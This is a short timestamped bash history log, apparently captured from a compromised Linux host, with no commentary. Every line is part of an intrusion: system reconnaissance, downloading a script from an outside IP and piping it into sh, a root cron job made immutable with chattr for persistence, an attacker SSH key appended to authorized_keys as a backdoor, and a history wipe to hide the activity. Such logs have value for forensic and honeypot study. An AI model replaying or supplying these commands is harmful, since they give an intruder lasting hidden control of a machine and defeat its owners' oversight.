#1709349302
w
#1709349305
cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'
#1709349310
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
#1709349318
wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1
#1709349340
cat > /etc/cron.d/zzh <<'CRON'
*/40 * * * * root sh /etc/newinit.sh >/dev/null 2>&1
CRON
#1709349345
chattr +ia /etc/cron.d/zzh
#1709349351
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 mdrfckr" >> ~/.ssh/authorized_keys
#1709349360
history -c
